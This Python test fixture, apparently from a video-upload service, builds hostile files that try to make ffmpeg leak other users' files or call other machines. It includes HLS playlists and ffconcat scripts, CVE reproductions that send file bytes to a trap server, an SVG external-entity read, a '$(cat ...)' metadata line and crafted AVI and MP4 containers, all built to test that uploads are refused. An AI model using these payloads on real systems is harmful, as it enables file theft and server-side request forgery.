"""Files that try to make ffmpeg read another person's file or call another machine.

Each is what somebody could upload, and `code` how it must be refused. `options` open as many doors for it as ffmpeg
has: with them and without our lists plain ffmpeg falls for many, which `test_attacks` demands.
"""

import base64
import struct
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from tests.transcode.traps import Traps

Content = Callable[[Traps], bytes]


@dataclass(frozen=True)
class Attack:
    """One hostile file."""

    name: str
    content: Content
    code: str | None
    filename: str = "holiday.mp4"
    options: tuple[str, ...] = ()


def text(template: str) -> Content:
    """`template` with the addresses of the traps filled in."""

    def fill(traps: Traps) -> bytes:
        facts = {
            "ts": traps.of("secret.ts"), "mp4": traps.of("secret.mp4"), "txt": traps.of("secret.txt"),
            "srt": traps.of("secret.srt"), "key": traps.of("secret.key"), "jpg": traps.of("secret.jpg"),
            "png": traps.of("secret.png"), "folder": str(traps.neighbour), "http": traps.http,
            "port": traps.ears.port, "udp": traps.ears.udp_port, "unix": traps.ears.unix,
        }  # fmt: skip
        return template.format(**facts).encode()

    return fill


def hls(segment: str, *tags: str) -> Content:
    """A media playlist of one segment."""
    lines = ["#EXTM3U", "#EXT-X-TARGETDURATION:4", *tags, "#EXTINF:4,", segment, "#EXT-X-ENDLIST", ""]
    return text("\n".join(lines))


def after(head: bytes, content: Content) -> Content:
    """`head` in front, to hide what follows from those who look at the first bytes only."""
    return lambda traps: head + content(traps)


def with_nul(content: Content) -> Content:
    """A NUL in a comment behind the first line, so that the file no longer looks like text."""

    def bury(traps: Traps) -> bytes:
        first, _, rest = content(traps).partition(b"\n")
        return first + b"\n#\x00\x01\x02\n" + rest

    return bury


def utf16(content: Content) -> Content:
    """The same text in UTF-16."""
    return lambda traps: content(traps).decode().encode("utf-16")


ID3 = b"ID3\x04\x00\x00\x00\x00\x00\x0a" + b"\x00" * 10
EVERY_PROTOCOL = ("-protocol_whitelist", "file,http,https,tcp,tls,udp,rtp,unix,concat,subfile,crypto,data,cache,"
                  "async,gopher,ftp,hls,pipe,httpproxy")  # fmt: skip
HLS = (*EVERY_PROTOCOL, "-allowed_extensions", "ALL")
CONCAT = (*EVERY_PROTOCOL, "-f", "concat", "-safe", "0")

ON_HLS = "playlist_file"

PLAYLISTS = [
    Attack("an HLS playlist of a neighbour's file", hls("file://{ts}"), ON_HLS, options=HLS),
    Attack("an HLS playlist named .ts", hls("{ts}"), ON_HLS, "holiday.ts", HLS),
    Attack("an HLS playlist named .avi", hls("{ts}"), ON_HLS, "holiday.avi", HLS),
    Attack("an HLS playlist named .m3u8", hls("{ts}"), ON_HLS, "holiday.m3u8", HLS),
    Attack("an HLS playlist that climbs out of its folder", hls("../neighbour/secret.ts"), ON_HLS, options=HLS),
    Attack("an HLS playlist that calls a server", hls("{http}/a.ts"), ON_HLS, options=HLS),
    Attack("an HLS playlist of playlists", text("#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nfile://{ts}\n"), ON_HLS,
           options=HLS),
    Attack("an HLS playlist whose key is a neighbour's file",
           hls("{ts}", '#EXT-X-KEY:METHOD=AES-128,URI="file://{key}"'), ON_HLS, options=HLS),
    Attack("an HLS playlist whose key is on a server",
           hls("{ts}", '#EXT-X-KEY:METHOD=AES-128,URI="{http}/k"'), ON_HLS, options=HLS),
    Attack("an HLS playlist whose beginning is a neighbour's file", hls("{ts}", '#EXT-X-MAP:URI="{mp4}"'), ON_HLS,
           options=HLS),
    Attack("an HLS playlist with captions of a neighbour",
           text('#EXTM3U\n#EXT-X-MEDIA:TYPE=SUBTITLES,GROUP-ID="s",NAME="s",URI="{srt}"\n'
                '#EXT-X-STREAM-INF:BANDWIDTH=1,SUBTITLES="s"\n{ts}\n'), ON_HLS, options=HLS),
    Attack("CVE-2016-1897: an HLS playlist that sends a file's bytes to a server",
           hls("concat:{http}/leak?|{txt}"), ON_HLS, options=HLS),
    Attack("CVE-2016-1898: an HLS playlist that sends a part of a file to a server",
           hls("concat:{http}/leak?|subfile,,start,0,end,31,,:{txt}"), ON_HLS, options=HLS),
    Attack("CVE-2020-13904: an HLS playlist of a segment without end",
           text("#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:9999999999999999999999,\n{ts}\n#EXTINF:\n{ts}\n"), ON_HLS,
           options=HLS),
    Attack("CVE-2023-6601: an HLS playlist that hides a file's name in a data address",
           hls("data:video/mp2t;base64,R0A=/../../..{ts}"), ON_HLS, options=HLS),
    Attack("CVE-2023-6602: an HLS playlist that shows a text file as pictures", hls("{txt}"), ON_HLS, options=HLS),
    Attack("CVE-2023-6603: an HLS playlist that stops in the middle of a tag",
           text('#EXTM3U\n#EXT-X-MAP:URI="{mp4}",BYTERANGE="9@\n#EXT-X-KEY:METHOD\n{ts}\n'), ON_HLS, options=HLS),
    Attack("an HLS playlist through crypto:", hls("crypto:{ts}"), ON_HLS, options=HLS),
    Attack("an HLS playlist through crypto+file:", hls("crypto+file:{ts}"), ON_HLS, options=HLS),
    Attack("an HLS playlist through subfile:", hls("subfile,,start,0,end,0,,:{ts}"), ON_HLS, options=HLS),
    Attack("an HLS playlist through cache:", hls("cache:{ts}"), ON_HLS, options=HLS),
    Attack("an HLS playlist through async:", hls("async:{ts}"), ON_HLS, options=HLS),
    Attack("an HLS playlist through tcp:", hls("tcp://127.0.0.1:{port}"), ON_HLS, options=HLS),
    Attack("an HLS playlist through udp:", hls("udp://127.0.0.1:{udp}?timeout=300000"), ON_HLS, options=HLS),
    Attack("an HLS playlist through unix:", hls("unix:{unix}"), ON_HLS, options=HLS),
    Attack("an HLS playlist through gopher:", hls("gopher://127.0.0.1:{port}/1x"), ON_HLS, options=HLS),
    Attack("an HLS playlist through ftp:", hls("ftp://127.0.0.1:{port}/a.ts"), ON_HLS, options=HLS),
    Attack("an HLS playlist through rtsp:", hls("rtsp://127.0.0.1:{port}/a"), ON_HLS, options=HLS),
    Attack("an HLS playlist through hls+http:", hls("hls+{http}/a.m3u8"), ON_HLS, options=HLS),
    Attack("an HLS playlist through tee:", hls("tee:{ts}"), ON_HLS, options=HLS),
    Attack("an HLS playlist with a NUL in it", with_nul(hls("file://{ts}")), ON_HLS, options=HLS),
    Attack("an HLS playlist behind a music tag", after(ID3, hls("{ts}")), ON_HLS, "song.mp3", HLS),
    Attack("an HLS playlist behind a byte order mark", after(b"\xef\xbb\xbf", hls("{ts}")), ON_HLS, options=HLS),
    Attack("an HLS playlist in UTF-16", utf16(hls("{ts}")), ON_HLS, options=HLS),
    Attack("an HLS playlist behind empty lines", after(b"\n\n   \n", hls("{ts}")), ON_HLS, options=HLS),
    Attack("an ffconcat script", text("ffconcat version 1.0\nfile {mp4}\n"), ON_HLS, options=CONCAT),
    Attack("an ffconcat script that climbs out of its folder",
           text("ffconcat version 1.0\nfile ../neighbour/secret.mp4\n"), ON_HLS, options=CONCAT),
    Attack("an ffconcat script that calls a server", text("ffconcat version 1.0\nfile '{http}/a.ts'\n"), ON_HLS,
           options=CONCAT),
    Attack("an ffconcat script with options of its own",
           text("ffconcat version 1.0\nfile 'subfile:{mp4}'\noption protocol_whitelist file,subfile,http\n"), ON_HLS,
           options=CONCAT),
    Attack("an ffconcat script with a NUL in it", with_nul(text("ffconcat version 1.0\nfile {mp4}\n")), ON_HLS,
           options=CONCAT),
    Attack("captions that are an ffconcat script", text("ffconcat version 1.0\nfile {srt}\n"), ON_HLS, "talk.srt",
           CONCAT),
    Attack("a concat script without its first line", text("file '{mp4}'\n"), ON_HLS, options=CONCAT),
    Attack("a DASH manifest of a neighbour's file",
           text('<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" '
                'mediaPresentationDuration="PT1S"><Period><AdaptationSet mimeType="video/mp4"><Representation id="1" '
                'bandwidth="1"><BaseURL>{mp4}</BaseURL></Representation></AdaptationSet></Period></MPD>'), ON_HLS,
           options=EVERY_PROTOCOL),
    Attack("CVE-2023-6605: a DASH manifest that calls a server",
           text('<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" '
                'mediaPresentationDuration="PT1S"><Period><AdaptationSet mimeType="video/mp4"><Representation id="1" '
                'bandwidth="1"><BaseURL>{http}/a.mp4</BaseURL></Representation></AdaptationSet></Period></MPD>'),
           ON_HLS, options=EVERY_PROTOCOL),
    Attack("a session description",
           text("v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\ns=x\r\nc=IN IP4 127.0.0.1\r\nt=0 0\r\n"
                "m=video {udp} RTP/AVP 96\r\na=rtpmap:96 H264/90000\r\n"), ON_HLS, options=EVERY_PROTOCOL),
    Attack("a Smooth Streaming manifest",
           text('<?xml version="1.0"?><SmoothStreamingMedia MajorVersion="2" Duration="1">'
                '<StreamIndex Url="{http}/q"/></SmoothStreamingMedia>'), ON_HLS),
    Attack("an IMF composition",
           text('<?xml version="1.0"?><CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2013">'
                "<Id>urn:uuid:1</Id><!-- {mp4} --></CompositionPlaylist>"), ON_HLS),
    Attack("a Windows Media redirector",
           text('<ASX version="3.0"><Entry><Ref href="{http}/a"/></Entry></ASX>'), ON_HLS),
    Attack("a Windows Media reference", text("[Reference]\nRef1={http}/a?MSWMExt=.asf\n"), ON_HLS, "talk.asf"),
    Attack("a Shoutcast playlist", text("[playlist]\nFile1={mp4}\nNumberOfEntries=1\n"), ON_HLS),
    Attack("an XSPF playlist",
           text('<?xml version="1.0"?><playlist version="1" xmlns="http://xspf.org/ns/0/"><trackList><track><location>'
                "file://{mp4}</location></track></trackList></playlist>"), ON_HLS),
    Attack("a SMIL presentation", text('<smil><body><video src="{http}/a"/></body></smil>'), ON_HLS),
    Attack("a list of real media", text("rtsp://127.0.0.1:{port}/a.rm\n{http}/b.rm\n"), "text_file", "talk.ram"),
    Attack("an Avisynth script", text('DirectShowSource("{mp4}")\n'), "text_file", "talk.avs"),
    Attack("a VobSub index whose pictures lie beside it",
           text("# VobSub index file, v7 (do not modify this line!)\nsize: 64x48\nid: en, index: 0\n"
                "timestamp: 00:00:00:000, filepos: 000000000\n"), "text_file", "secret-talk.idx"),
    Attack("a drawing that shows a neighbour's picture",
           text('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" '
                'height="48"><image width="64" height="48" xlink:href="file://{png}"/></svg>'), "text_file"),
    Attack("a drawing with an entity of a neighbour's file",
           text('<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file://{txt}">]>'
                '<svg xmlns="http://www.w3.org/2000/svg" width="64" height="48"><text>&x;</text></svg>'),
           "text_file"),
    Attack("a table of metadata", text(";FFMETADATA1\ntitle=$(cat {txt})\n"), "text_file"),
    Attack("CVE-2023-6604: a text picture of 4 billion letters",
           lambda _: b"XBIN\x1a" + struct.pack("<HHBB", 65535, 65535, 16, 0) + b"\xff" * 64, "not_a_video",
           "talk.xb"),
]  # fmt: skip


def box(kind: bytes, *parts: bytes) -> bytes:
    """An MP4 box (ISO/IEC 14496-12, 4.2)."""
    body = b"".join(parts)
    return struct.pack(">I4s", 8 + len(body), kind) + body


def pascal(name: str, length: int) -> bytes:
    """A name with its length in front, filled up, as alias records have it."""
    raw = name.encode()[: length - 1]
    return bytes([len(raw)]) + raw.ljust(length - 1, b"\0")


def alias(path: str) -> bytes:
    """A QuickTime `alis` data reference to an absolute path (Alias record, version 2)."""
    volume, _, _ = path.lstrip("/").partition("/")
    name = Path(path).name
    head = b"\0\0\0\0" + struct.pack(">HH", 150, 2) + b"\0\0" + pascal(volume, 28) + bytes(12)
    head += pascal(name, 64) + bytes(16) + struct.pack(">hh", -1, -1) + bytes(16)
    raw = path.encode()
    tail = struct.pack(">hh", 2, len(raw)) + raw + b"\0" * (len(raw) % 2)
    tail += struct.pack(">hh", 18, len(raw)) + raw + b"\0" * (len(raw) % 2) + struct.pack(">hh", -1, 0)
    return box(b"alis", b"\0\0\0\0" + head + tail)


def with_reference(clip: bytes, reference: bytes) -> bytes:
    """An MP4 whose samples are said to lie in another file: its first `dref` points to `reference`."""
    old = box(b"dref", b"\0\0\0\0\0\0\0\1", box(b"url ", b"\0\0\0\1"))
    new = box(b"dref", b"\0\0\0\0\0\0\0\1", reference)
    assert clip.count(old) >= 1
    at = clip.index(old)
    grown = bytearray(clip[:at] + new + clip[at + len(old) :])
    for kind in (b"dinf", b"minf", b"mdia", b"trak", b"moov"):  # the boxes around it grow with it
        start = grown.rindex(kind, 0, at) - 4
        size = struct.unpack_from(">I", grown, start)[0]
        struct.pack_into(">I", grown, start, size + len(new) - len(old))
    return bytes(grown)


def gab2(content: bytes) -> bytes:
    """An AVI whose only track is a subtitle in a GAB2 packet that holds another file (CVE-2017-9993)."""
    header = struct.pack("<4s4sIHHIIIIIIIIHHHH", b"txts", b"\0" * 4, 0, 0, 0, 0, 1, 25, 0, 1, 0, 0, 0, 0, 0, 64, 48)
    packet = b"GAB2\0" + struct.pack("<HI", 2, 2) + b"x\0" + struct.pack("<HI", 4, len(content)) + content
    packet += b"\0" * (len(packet) % 2)
    avih = struct.pack("<14I", 40000, 0, 0, 16, 1, 0, 1, 0, 64, 48, 0, 0, 0, 0)

    def chunk(name: bytes, body: bytes) -> bytes:
        return name + struct.pack("<I", len(body)) + body + b"\0" * (len(body) % 2)

    def listed(name: bytes, body: bytes) -> bytes:
        return chunk(b"LIST", name + body)

    strl = listed(b"strl", chunk(b"strh", header) + chunk(b"strf", b""))
    return chunk(
        b"RIFF", b"AVI " + listed(b"hdrl", chunk(b"avih", avih) + strl) + listed(b"movi", chunk(b"00tx", packet))
    )


INSIDE = [
    Attack("CVE-2017-9993: an AVI whose captions are an HLS playlist",
           lambda traps: gab2(hls("{ts}")(traps)), "no_streams", "talk.avi", HLS),
    Attack("an AVI whose captions are an ffconcat script",
           lambda traps: gab2(text("ffconcat version 1.0\nfile {mp4}\n")(traps)), "no_streams", "talk.avi",
           EVERY_PROTOCOL),
    Attack("CVE-2023-6601: an HLS playlist with its own file inside a data address",
           lambda traps: hls("data:video/mp2t;base64," + base64.b64encode(hls("{ts}")(traps)).decode())(traps),
           ON_HLS, options=HLS),
]  # fmt: skip

ATTACKS = [*PLAYLISTS, *INSIDE]
